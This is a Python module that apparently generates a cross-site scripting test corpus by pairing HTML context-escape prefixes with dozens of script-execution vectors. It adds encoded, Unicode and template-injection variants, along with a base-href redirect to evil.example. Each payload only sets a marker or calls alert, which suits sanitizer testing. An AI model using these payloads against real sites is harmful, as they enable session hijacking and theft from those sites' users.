"""What somebody types who wants his script to run in another's browser: ways out of a place, times ways to run.

Of our own making, by classes: where the text may land (16 ways out) and what would run there (27 ways), with some that
hide behind spelling. Each would set `window.__xss` or open a dialog.
"""

from __future__ import annotations

from typing import Final

_RUN: Final = "window.__xss=1;alert(1)"
_OUT: Final = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "</option></select>", '" ',
    "' ", "</noscript>", "</svg>", "</template>", "&quot;>",
)  # fmt: skip
_WAYS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\n>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'/>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>x",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<a href=javascript:{_RUN}>按这里</a>",
    f"<a href='java\tscript:{_RUN}'>按这里</a>",
    f"<form action=javascript:{_RUN}><button>送</button></form>",
    f"<button formaction=javascript:{_RUN}>送</button>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<style onload={_RUN}>@import 'x'</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=//evil.example/>",
    f" autofocus onfocus={_RUN} onmouseover={_RUN} ",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
)
_SPELT: Final = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"{{{{ ''.__class__ }}}}<script>{_RUN}</script>",
    f"{{% for x in ().__class__.__base__ %}}<script>{_RUN}</script>",
    f"${{{_RUN}}}",
    f"';{_RUN};//",
    f"\";{_RUN};//",
    f"`;{_RUN};//",
    f"javascript:{_RUN}",
    f"<<script>{_RUN}//<</script>",
)
PAYLOADS: Final = tuple(out + way for out in _OUT for way in _WAYS) + _SPELT
